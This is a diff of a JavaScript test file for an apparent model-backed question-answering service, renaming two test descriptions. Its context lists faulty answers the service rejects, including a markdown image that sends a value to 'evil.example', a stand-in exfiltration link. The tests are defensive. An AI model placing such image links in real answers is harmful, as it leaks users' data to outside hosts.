@@ -94,7 +94,7 @@ test.each([
   ['cites what it was not given', 'The gauge was zeroed [7].'],
   ['sends to an address of its own', 'See ![x](https://evil.example/?q=1987) [1].'],
   ['makes up a number', 'It was zeroed in 1999 [1].'],
-])('a model that %s gives no sentence', async (_what, answer) => {
+])('a model that %s yields no sentence', async (_what, answer) => {
   model.answer = () => answer;
   const { events } = await ask(alice, { question: 'When?' });
   expect(events).toEqual([['end', expect.objectContaining({ answered: false })]]);
@@ -139,7 +139,7 @@ test('no request can choose a host or a model', async () => {
   expect(model.asked).toEqual([]);
 });
 
-test('a failing model is an event with its code, and the turn is free again', async () => {
+test('a failing model is an event with its code, and its slot is free again', async () => {
   model.fault = () => ({ status: 500, body: 'secret words' });
   for (let turn = 0; turn < 4; turn += 1) {
     const { events } = await ask(alice, { question: 'When?' });
